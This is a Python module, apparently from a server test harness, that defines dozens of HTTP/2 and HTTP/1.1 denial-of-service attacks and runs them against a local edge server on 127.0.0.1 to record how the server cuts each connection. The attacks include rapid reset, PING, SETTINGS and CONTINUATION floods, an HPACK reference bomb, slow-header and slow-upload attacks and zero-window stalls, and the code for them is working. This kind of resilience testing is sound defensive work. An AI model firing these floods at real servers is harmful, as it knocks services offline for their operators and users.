"""What hostile visitors do, as a table: bytes made once and sent as fast as the edge takes them, or held back for ever.

    /usr/bin/python3 -m harness.attacks NAME HTTPS_PORT HTTP_PORT HOST SECONDS       one attack; prints what became of it

An attack is a generator of (bytes to send, pause in seconds) for one connection.  Floods run on one connection at a time
and come back when they are cut, at most RETURNS times; `crowd` says how many connections an attack holds at once.
"""
import itertools
import json
import selectors
import socket
import ssl
import struct
import sys
import time
from dataclasses import dataclass

from .frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITISED,
                     PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame, settings)

RETURNS = 1000
PIECE = 1 << 16
REASONS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED",
           6: "FRAME_SIZE_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
ATTACKS = {}
WINDOW_MAX = (1 << 31) - 1


@dataclass
class Attack:
    name: str
    steps: object          # host -> iterator of (bytes, pause_s)
    kind: str = "h2"       # h2, h1 (over TLS), plain, tcp (nothing is said at all), hello (half a handshake)
    crowd: int = 1
    reads: bool = True     # does it take what the edge sends?
    cut: bool = True       # the edge has to end these connections by itself
    returns: int = RETURNS


def attack(name, **options):
    def add(steps):
        ATTACKS[name] = Attack(name, steps, **options)
        return steps
    return add


def word(value):
    return struct.pack(">I", value)


def ask(stream, host, end=True, flags=END_HEADERS, method="GET", path="/", more=()):
    fields = block((":method", method), (":scheme", "https"), (":authority", host), (":path", path), *more)
    return frame(HEADERS, flags | (END_STREAM if end else 0), stream, fields)


def rst(stream):
    return frame(RST_STREAM, 0, stream, word(8))


def window(increment, stream=0):
    return frame(WINDOW_UPDATE, 0, stream, word(increment))


def streams(first=1):
    return itertools.count(first, 2)


def for_ever(piece):
    whole = piece * max(1, PIECE // len(piece))
    while True:
        yield whole, 0


def per_stream(make, host, batch=256, pause_s=0):
    """make(stream, host) for one stream after another."""
    ids = streams()
    while True:
        yield b"".join(make(next(ids), host) for _ in range(batch)), pause_s


# ---- streams that cost more to answer than to ask

attack("rapid reset")(lambda host: per_stream(lambda s, h: ask(s, h) + rst(s), host))
attack("rapid reset of uploads")(lambda host: per_stream(
    lambda s, h: ask(s, h, end=False, method="POST") + frame(DATA, 0, s, b"x" * 16) + rst(s), host))
attack("made to reset: window of 0")(lambda host: per_stream(lambda s, h: ask(s, h) + window(0, s), host))
attack("made to reset: window overflow")(lambda host: per_stream(lambda s, h: ask(s, h) + window(WINDOW_MAX, s), host))
attack("made to reset: data behind the end")(lambda host: per_stream(
    lambda s, h: ask(s, h) + frame(DATA, 0, s, b"x"), host))
attack("made to reset: self-dependency")(lambda host: per_stream(
    lambda s, h: ask(s, h) + frame(PRIORITY, 0, s, word(s) + b"\x10"), host))
attack("made to reset: bad fields")(lambda host: per_stream(
    lambda s, h: ask(s, h, more=[("connection", "close"), ("BAD NAME", "x")]), host))
attack("made to reset: length that lies")(lambda host: per_stream(
    lambda s, h: ask(s, h, end=False, method="POST", more=[("content-length", "9")]) + frame(DATA, END_STREAM, s, b"x"), host))
attack("streams past the limit")(lambda host: per_stream(lambda s, h: ask(s, h, end=False, method="POST"), host))

# ---- frames that cost nothing to send

attack("PING flood")(lambda _: for_ever(frame(PING, 0, 0, b"12345678")))
attack("PING flood, answers unread", reads=False)(lambda _: for_ever(frame(PING, 0, 0, b"12345678")))
attack("SETTINGS flood")(lambda _: for_ever(settings((4, 65535))))
attack("SETTINGS flood, answers unread", reads=False)(lambda _: for_ever(settings((4, 65535))))
attack("SETTINGS of 2,000 entries")(lambda _: for_ever(settings(*[(4, 65535 - n) for n in range(2000)])))
attack("SETTINGS that move every window")(lambda host: itertools.chain(
    [(b"".join(ask(s, host, end=False, method="POST") for s in itertools.islice(streams(), 100)), 0)],
    for_ever(settings((4, 100)) + settings((4, 1 << 20)))))
attack("PRIORITY flood")(lambda _: for_ever(frame(PRIORITY, 0, 1, word(0) + b"\x10")))
attack("unknown frames")(lambda _: for_ever(frame(0xee, 0, 0, b"?")))
attack("WINDOW_UPDATE flood")(lambda _: for_ever(window(1)))
attack("empty DATA flood")(lambda host: itertools.chain(
    [(ask(1, host, end=False, method="POST"), 0)], for_ever(frame(DATA, 0, 1))))
attack("padding without data")(lambda host: itertools.chain(
    [(ask(1, host, end=False, method="POST"), 0)], for_ever(frame(DATA, PADDED, 1, b"\xff" + bytes(255)))))
attack("acknowledgements of nothing")(lambda _: for_ever(frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, bytes(8))))
attack("GOAWAY flood")(lambda _: for_ever(frame(GOAWAY, 0, 0, word(0) + word(0))))

# ---- heads

attack("CONTINUATION without end")(lambda host: itertools.chain(
    [(ask(1, host, flags=0), 0)], for_ever(frame(CONTINUATION, 0, 1, block(("x-filler", "y" * 1000))))))
attack("empty CONTINUATION")(lambda host: itertools.chain([(ask(1, host, flags=0), 0)], for_ever(frame(CONTINUATION, 0, 1))))


@attack("HPACK reference bomb")
def hpack_bomb(host):
    value = b"b" * 3900
    put = b"\x40" + b"\x01x" + b"\x7f" + bytes(((len(value) - 127) & 127 | 128, (len(value) - 127) >> 7)) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block((":method", "GET"), (":scheme", "https"), (":authority", host),
                                                            (":path", "/")) + put), 0.05
    for stream in streams(3):
        fields = block((":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/")) + b"\xbe" * 14000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, fields), 0


attack("HPACK table resized")(lambda host: per_stream(
    lambda s, h: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x20\x3f\xe1\x1f" * 1 + block(
        (":method", "GET"), (":scheme", "https"), (":authority", h), (":path", "/"))) + rst(s), host))
attack("heads of 60 KB")(lambda host: per_stream(
    lambda s, h: ask(s, h, flags=0) + b"".join(frame(CONTINUATION, END_HEADERS if n == 3 else 0, s, block(("x", "y" * 15000)))
                                             for n in range(4)), host, batch=4))
attack("HTTP/1.1 heads of 60 KB", kind="h1")(lambda host: for_ever(
    b"GET / HTTP/1.1\r\nhost: " + host.encode() + b"\r\n" + b"x: " + b"y" * 70000 + b"\r\n\r\n"))
attack("HTTP/1.1 pipelined nonsense", kind="h1")(lambda host: for_ever(b"\x00\x01\x02 / \r\n\r\n"))
attack("HTTP/1.1 one-byte chunks", kind="h1", cut=False, returns=1)(lambda host: itertools.chain(
    [(b"POST / HTTP/1.1\r\nhost: " + host.encode() + b"\r\ntransfer-encoding: chunked\r\n\r\n", 0)],
    ((b"1\r\nx\r\n" * 4096, 0.02) for _ in itertools.count())))

# ---- those who wait, or read slowly

attack("connections that say nothing", kind="tcp", crowd=200)(lambda _: iter(()))
attack("half a ClientHello", kind="hello", crowd=200)(lambda _: iter(()))
attack("slow HTTP/1.1 heads", kind="h1", crowd=100)(lambda host: itertools.chain(
    [(b"GET / HTTP/1.1\r\nhost: " + host.encode() + b"\r\n", 0)], ((b"x-%d: y\r\n" % n, 0.5) for n in itertools.count())))
attack("slow HTTP/2 heads", crowd=100)(lambda host: itertools.chain(
    [(ask(1, host, flags=0), 0)], ((frame(CONTINUATION, 0, 1, b""), 2.5) for _ in itertools.count())))
attack("slow uploads", kind="h1", crowd=100)(lambda host: itertools.chain(
    [(b"POST /post HTTP/1.1\r\nhost: " + host.encode() + b"\r\ncontent-length: 1000000\r\n\r\n", 0)],
    ((b"x", 0.5) for _ in itertools.count())))
attack("answers never read", crowd=20, reads=False)(lambda host: iter([
    (b"".join(ask(s, host, path="/100k") for s in itertools.islice(streams(), 100)), 0)]))
attack("windows of zero", crowd=20)(lambda host: iter([
    (settings((4, 0)) + b"".join(ask(s, host, path="/100k") for s in itertools.islice(streams(), 100)), 0)]))
attack("windows of one byte at a time", crowd=10)(lambda host: itertools.chain(
    [(settings((4, 0)) + b"".join(ask(s, host, path="/100k") for s in itertools.islice(streams(), 100)), 0)],
    ((b"".join(window(1, s) for s in itertools.islice(streams(), 100)), 0.25) for _ in itertools.count())))
attack("handshakes and nothing else", cut=False)(lambda _: iter(()))
attack("requests for a name that nobody has", cut=False)(lambda _: per_stream(
    lambda s, h: ask(s, "nobody.example.org"), "", batch=32, pause_s=0.01))


# ---- one connection

class Hostile:
    def __init__(self, what, ports, host):
        self.what, self.host, self.began = what, host, time.monotonic()
        self.ended, self.reason, self.buffer, self.sent = None, None, b"", 0
        self.due, self.pending, self.steps = 0.0, b"", None
        https, http = ports
        self.sock = socket.create_connection(("127.0.0.1", http if what.kind == "plain" else https), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if what.kind == "hello":
            self.sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        elif what.kind in ("h2", "h1"):
            self.sock = TLS[what.kind].wrap_socket(self.sock, server_hostname=host)
        self.steps = what.steps(host)
        if what.kind == "h2":
            self.pending = PREFACE + settings()
        self.sock.setblocking(False)

    def end(self, reason):
        self.ended = time.monotonic() - self.began
        self.reason = self.reason or reason
        self.sock.close()

    def read(self, pieces=16):
        for _ in range(pieces):
            try:
                piece = self.sock.recv(PIECE)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except (OSError, ssl.SSLError) as error:
                self.end(type(error).__name__)
                return
            if not piece:
                self.end("closed")
                return
            self.look(piece)

    def look(self, piece):
        """For GOAWAY, and for the status of HTTP/1.1."""
        if self.what.kind != "h2":
            self.reason = self.reason or piece[:12].decode("latin-1")
            return
        self.buffer += piece
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            if self.buffer[3] == GOAWAY:
                code = struct.unpack(">I", self.buffer[13:17])[0]
                self.reason = REASONS.get(code, str(code))
            self.buffer = self.buffer[9 + length:]

    def write(self, now):
        """True when something was sent."""
        if not self.pending and now >= self.due and self.steps is not None:
            self.pending, pause_s = next(self.steps, (None, 0))
            if self.pending is None:
                self.pending, self.steps = b"", None
                return False
            self.due = now + pause_s
        if not self.pending:
            return False
        try:
            count = self.sock.send(self.pending[:PIECE])
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        except (OSError, ssl.SSLError) as error:
            # What the edge said before it closed may still be there.
            self.read()
            if self.ended is None:
                self.end(type(error).__name__)
            return False
        self.sent += count
        self.pending = self.pending[count:]
        return True


def tls(alpn):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([alpn])
    return made


TLS = {"h2": tls("h2"), "h1": tls("http/1.1")}


def run(what, ports, host, seconds):
    """Attacks for so long; what became of its connections."""
    ends, live, gone, opened = time.monotonic() + seconds, [], [], 0
    while time.monotonic() < ends and (live or opened < max(what.crowd, what.returns)):
        while len(live) < what.crowd and opened < max(what.crowd, what.returns):
            opened += 1
            try:
                live.append(Hostile(what, ports, host))
            except OSError:
                time.sleep(0.05)
        now, busy = time.monotonic(), False
        for one in live:
            if what.reads:
                one.read()
            busy |= one.ended is None and one.write(now)
            if one.ended is None and one.steps is None and not one.pending and what.name.startswith("handshakes"):
                one.end("done")
        gone += [one for one in live if one.ended is not None]
        live = [one for one in live if one.ended is None]
        if not busy and live:
            wait_readable(live if what.reads else [], 0.01)
    for one in [] if what.reads else live:
        one.read(pieces=4096)
        gone += [one] if one.ended is not None else []
    return {"opened": opened, "cut": len(gone), "sent": sum(one.sent for one in [*live, *gone]),
            "cut_after_s": sorted(round(one.ended, 3) for one in gone), "reasons": sorted({str(one.reason) for one in gone})}


def wait_readable(live, seconds):
    if not live:
        time.sleep(seconds)
        return
    with selectors.DefaultSelector() as selector:
        for one in live[:64]:
            selector.register(one.sock, selectors.EVENT_READ)
        selector.select(seconds)


if __name__ == "__main__":
    name, https, http, host, seconds = sys.argv[1:]
    print(json.dumps(run(ATTACKS[name], (int(https), int(http)), host, float(seconds))))
